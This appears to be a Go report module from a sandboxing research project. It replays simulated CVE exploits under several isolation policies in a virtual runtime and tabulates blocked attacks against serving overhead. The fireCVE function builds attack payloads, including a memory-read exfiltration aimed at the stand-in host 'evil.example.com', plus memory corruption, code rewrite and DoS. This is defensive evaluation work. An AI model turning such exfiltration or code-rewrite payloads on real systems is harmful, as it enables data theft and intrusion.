package report

import (
	"fmt"
	"slices"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/framework/simcv"
	"freepart.dev/freepart/internal/isolation"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/vclock"
)

// IsolationCVEOutcome is one cell of the blocked-CVE matrix: one evaluation
// CVE replayed live under one isolation policy.
type IsolationCVEOutcome struct {
	// CVE is the vulnerability id (Table 5).
	CVE string `json:"cve"`
	// API is the vulnerable API the exploit was driven through.
	API string `json:"api"`
	// Class is the vulnerability class (attack.VulnClass).
	Class string `json:"class"`
	// Tier is the isolation tier the policy assigns to the CVE's API type.
	Tier string `json:"tier"`
	// Blocked reports whether the class verdict held after the attack ran:
	// critical data intact (mem write), nothing on the wire (mem read),
	// host alive (DoS), code pages intact (RCE).
	Blocked bool `json:"blocked"`
	// Detected reports whether the attack was at least observed: either
	// contained outright (every blocked attack is a detection — the key
	// fault, seccomp kill, or agent crash is the signal), or flagged by
	// the DoS resource watchdog when a domain- or host-tier invocation
	// killed the host. The imshow DoS escapes the tiered preset's domain
	// tier (Blocked false) but no longer escapes silently (Detected true).
	Detected bool `json:"detected"`
}

// IsolationResult is one row of the blocked-CVEs-vs-overhead frontier: one
// policy's live security matrix plus its serving cost.
type IsolationResult struct {
	// Policy is the preset name (paper / tiered / erim / none).
	Policy string `json:"policy"`
	// Blocked counts CVEs the policy contained, out of Total; Detected
	// counts CVEs at least observed (blocked, or caught by the DoS
	// resource watchdog).
	Blocked  int `json:"blocked"`
	Detected int `json:"detected"`
	Total    int `json:"total"`
	// CriticalPath is the serving probe's max-merged virtual time across
	// shards: the full detection pipeline (load, detect, annotate, show,
	// store) over a fixed request stream.
	CriticalPath vclock.Duration `json:"critical_path_ns"`
	// OverheadPct is CriticalPath relative to the "none" (in-host) row.
	OverheadPct float64 `json:"overhead_pct"`
	// DomainSwitches / DomainCopies count the MPK-tier accounting events the
	// serving probe generated (zero for pure process or host policies).
	DomainSwitches uint64 `json:"domain_switches"`
	DomainCopies   uint64 `json:"domain_copies"`
	// CVEs is the per-CVE matrix behind Blocked.
	CVEs []IsolationCVEOutcome `json:"cves"`
}

// MeasureIsolation maps the blocked-CVEs-vs-overhead frontier: every
// isolation preset replays all 18 evaluation CVEs live through their own
// API sites, then serves a fixed detection request stream to price the
// mechanism. Everything runs in virtual time and is deterministic.
func MeasureIsolation(shards, requests int) ([]IsolationResult, error) {
	reg := all.Registry()
	cat := hybridCatCached(reg)
	cves := attack.EvalCVEs()

	out := make([]IsolationResult, 0, len(isolation.Presets()))
	for _, pol := range isolation.Presets() {
		res := IsolationResult{Policy: pol.Name, Total: len(cves)}
		for _, cve := range cves {
			blocked, detected, err := replayIsolationCVE(cat, pol, cve)
			if err != nil {
				return nil, fmt.Errorf("report: %s under %s: %w", cve.ID, pol.Name, err)
			}
			if blocked {
				res.Blocked++
			}
			if detected {
				res.Detected++
			}
			res.CVEs = append(res.CVEs, IsolationCVEOutcome{
				CVE:      cve.ID,
				API:      cve.API,
				Class:    cve.Class.String(),
				Tier:     pol.TierOf(cve.APIType).String(),
				Blocked:  blocked,
				Detected: detected,
			})
		}
		crit, switches, copies, err := isolationServing(reg, cat, pol, shards, requests)
		if err != nil {
			return nil, fmt.Errorf("report: serving under %s: %w", pol.Name, err)
		}
		res.CriticalPath = crit
		res.DomainSwitches = switches
		res.DomainCopies = copies
		out = append(out, res)
	}

	// Overhead is priced against the unprotected in-host baseline.
	var base vclock.Duration
	for _, r := range out {
		if r.Policy == "none" {
			base = r.CriticalPath
		}
	}
	if base > 0 {
		for i := range out {
			out[i].OverheadPct = 100 * (float64(out[i].CriticalPath)/float64(base) - 1)
		}
	}
	return out, nil
}

// replayIsolationCVE runs one CVE's exploit live under one policy on a
// fresh runtime and returns the class verdict.
func replayIsolationCVE(cat *analysis.Categorization, pol *isolation.Policy, cve attack.CVE) (blocked, detected bool, err error) {
	k := kernel.New()
	// The DoS resource watchdog observes domain- and host-tier invocations
	// that kill the host: pure observation (no clock advance), so the
	// verdicts are exactly those of a watchdog-less run.
	var watchdog bool
	cfg := core.ConfigForIsolation(pol)
	cfg.OnAnomaly = func(framework.APIType, string, string, string) { watchdog = true }
	rt, err := core.New(k, all.Registry(), cat, cfg)
	if err != nil {
		return false, false, err
	}
	defer rt.Close()
	log := &attack.Log{}
	rt.OnExploit = log.Handler()

	v, err := fireCVE(rt, cve)
	if err != nil {
		return false, false, err
	}
	blocked = v.blocked(cve.Class)
	// Every blocked attack is a detection (its containment mechanism is
	// the signal); the watchdog adds detection of host-killing DoS that
	// the tier itself could not contain.
	return blocked, blocked || watchdog, nil
}

// cveVerdict is what one live exploit left of the targets fireCVE planted.
type cveVerdict struct {
	// dataSafe: the registered critical secret is unchanged.
	dataSafe bool
	// leakBlocked: nothing left over the network during the attack.
	leakBlocked bool
	// codeIntact: the r-x code region is unchanged.
	codeIntact bool
	// hostAlive: the host process survived.
	hostAlive bool
}

// blocked reads the verdict for one vulnerability class: whether the
// target that class goes after survived.
func (v cveVerdict) blocked(c attack.VulnClass) bool {
	switch c {
	case attack.ClassMemWrite:
		return v.dataSafe
	case attack.ClassMemRead:
		return v.leakBlocked
	case attack.ClassRCE:
		return v.codeIntact
	default:
		return v.hostAlive
	}
}

// fireCVE is the one live-exploit path of the security reports. It plants
// fresh attack targets in rt's host — a critical secret (registered, so
// MPK policies tag it with the host-critical key) and an r-x code region
// (deliberately untagged: MPK does not stop an in-process mprotect, and
// the verdict must show that) — builds the CVE's class payload against
// them, drives it through the CVE's own API site and reads what is left.
// The network is measured from its length before the attack, so one
// runtime can absorb several attacks without polluting later verdicts.
// Callers install rt.OnExploit beforehand.
func fireCVE(rt *core.Runtime, cve attack.CVE) (cveVerdict, error) {
	host := rt.Host.Space()
	crit, err := host.Alloc(32)
	if err != nil {
		return cveVerdict{}, err
	}
	if err := host.Store(crit.Base, []byte("sensitive")); err != nil {
		return cveVerdict{}, err
	}
	rt.RegisterCritical(crit)

	code, err := host.Alloc(64)
	if err != nil {
		return cveVerdict{}, err
	}
	codeBytes := []byte("TRUSTED-CODE-SEG")
	if err := host.Store(code.Base, codeBytes); err != nil {
		return cveVerdict{}, err
	}
	if _, err := host.ProtectRegion(code, mem.PermRead|mem.PermExec); err != nil {
		return cveVerdict{}, err
	}
	netBefore := len(rt.K.Net.Sent())

	var payload []byte
	switch cve.Class {
	case attack.ClassMemWrite:
		payload = attack.Corrupt(cve.ID, crit.Base, []byte("OWNED"))
	case attack.ClassMemRead:
		payload = attack.Exfiltrate(cve.ID, crit.Base, 9, "evil.example.com")
	case attack.ClassRCE:
		payload = attack.CodeRewrite(cve.ID, code.Base, len(codeBytes))
	default:
		payload = attack.DoS(cve.ID)
	}
	attack.Drive(rt, rt.HostCtx(), cve, payload)

	data, _ := host.Load(crit.Base, 9)
	codeNow, _ := host.Load(code.Base, len(codeBytes))
	return cveVerdict{
		dataSafe:    string(data) == "sensitive",
		leakBlocked: len(rt.K.Net.Sent()) == netBefore,
		codeIntact:  string(codeNow) == string(codeBytes),
		hostAlive:   rt.Host.Alive(),
	}, nil
}

// isolationServing prices one policy: a session-sharded executor serves a
// fixed detection stream where every request crosses all four API types
// (load, detect, annotate, show, store), so tiering visualizing/storing
// down to MPK domains shows up in the critical path. Returns the critical
// path and the summed domain-switch/copy counts across shards.
func isolationServing(reg *framework.Registry, cat *analysis.Categorization, pol *isolation.Policy, shards, requests int) (vclock.Duration, uint64, uint64, error) {
	reqs := apps.GenDetectionRequests(7, requests)
	for i := range reqs {
		reqs[i].Arrival = 0 // closed loop: measure capacity, not arrival pacing
	}
	ex, err := core.NewExecutor(shards, core.ProtectedShards(reg, cat, core.ConfigForIsolation(pol)))
	if err != nil {
		return 0, 0, 0, err
	}
	defer ex.Close()

	models := make([]core.Handle, ex.Shards())
	for i := 0; i < ex.Shards(); i++ {
		sh := ex.Shard(i)
		sh.K.FS.WriteFile("/srv/model.xml", simcv.EncodeClassifier(150, 4))
		h, _, err := sh.Ex.Call("cv.CascadeClassifier", framework.Str("/srv/model.xml"))
		if err != nil {
			return 0, 0, 0, fmt.Errorf("shard %d model load: %w", i, err)
		}
		if len(h) == 0 {
			return 0, 0, 0, fmt.Errorf("shard %d model load returned no handle", i)
		}
		models[i] = h[0]
		// Steady state only: provisioning cost is identical per shard and
		// would dilute the per-call mechanism cost being compared.
		sh.K.Clock.Reset()
	}

	for i := range reqs {
		rq := reqs[i]
		err := ex.Session().Do(func(sh *core.Shard) error {
			path := fmt.Sprintf("/srv/req-%d.img", i)
			sh.K.FS.WriteFile(path, rq.Body)
			img, _, err := sh.Ex.Call("cv.imread", framework.Str(path))
			if err != nil {
				return err
			}
			if _, _, err := sh.Ex.Call("cv.CascadeClassifier.detectMultiScale",
				models[sh.ID].Value(), img[0].Value()); err != nil {
				return err
			}
			boxed, _, err := sh.Ex.Call("cv.rectangle", img[0].Value())
			if err != nil {
				return err
			}
			if _, _, err := sh.Ex.Call("cv.imshow", framework.Str("srv"), boxed[0].Value()); err != nil {
				return err
			}
			_, _, err = sh.Ex.Call("cv.imwrite",
				framework.Str(fmt.Sprintf("/srv/out-%d.img", i)), boxed[0].Value())
			return err
		})
		if err != nil {
			return 0, 0, 0, fmt.Errorf("request %d: %w", i, err)
		}
	}

	var switches, copies uint64
	for i := 0; i < ex.Shards(); i++ {
		if rt := ex.Shard(i).Rt; rt != nil {
			snap := rt.Metrics.Snapshot()
			switches += snap.DomainSwitches
			copies += snap.DomainCopies
		}
	}
	return ex.CriticalPath(), switches, copies, nil
}

// TableIsolation renders the frontier and optionally writes the rows as
// JSON to jsonPath (the BENCH_isolation.json artifact).
func TableIsolation(jsonPath string) (string, error) {
	results, err := MeasureIsolation(4, 64)
	if err != nil {
		return "", err
	}
	frontier, matrix := RenderIsolation(results)
	// The rows do not record the serving probe's shape; quote it after the
	// watchdog note.
	frontier.Notes = slices.Insert(frontier.Notes, 4,
		"Overhead is the serving critical path (4 shards, 64 full-pipeline requests) vs the in-host baseline.")
	return finish(jsonPath, results, frontier, matrix)
}

// RenderIsolation renders frontier rows as the blocked-vs-overhead table
// and the per-CVE matrix, one matrix column per row's policy.
func RenderIsolation(results []IsolationResult) (frontier, matrix *Table) {
	frontier = &Table{
		Title:  "Isolation tiers: blocked CVEs vs serving overhead (18 live exploits, virtual time)",
		Header: []string{"Policy", "Blocked", "Detected", "Critical path", "Overhead vs none", "Domain switches", "Domain copies"},
	}
	for _, r := range results {
		frontier.Add(r.Policy, fmt.Sprintf("%d/%d", r.Blocked, r.Total), fmt.Sprintf("%d/%d", r.Detected, r.Total),
			r.CriticalPath.String(),
			fmt.Sprintf("%+.2f%%", r.OverheadPct), d(int(r.DomainSwitches)), d(int(r.DomainCopies)))
	}
	frontier.Notes = append(frontier.Notes,
		"Every CVE is replayed live through its own API site; Blocked counts class verdicts that held.",
		"Detected adds the resource watchdog: a blocked attack is a detection, and a host-killing DoS that",
		"  escapes a non-process tier (e.g. the imshow DoS under the tiered preset) now trips the watchdog",
		"  instead of vanishing silently — raw material for the adaptive defense controller.",
		"The domain tier blocks cross-domain reads/writes but shares the host's fate: DoS and mprotect-based RCE pass.")

	matrix = &Table{
		Title:  "Blocked-CVE matrix (rows: CVE; columns: policy)",
		Header: []string{"CVE", "Class", "API"},
	}
	for _, r := range results {
		matrix.Header = append(matrix.Header, r.Policy)
	}
	if len(results) > 0 {
		for i, c := range results[0].CVEs {
			row := []string{c.CVE, c.Class, c.API}
			for _, r := range results {
				cell := "blocked"
				if !r.CVEs[i].Blocked {
					cell = "-"
				}
				row = append(row, cell)
			}
			matrix.Add(row...)
		}
	}
	return frontier, matrix
}
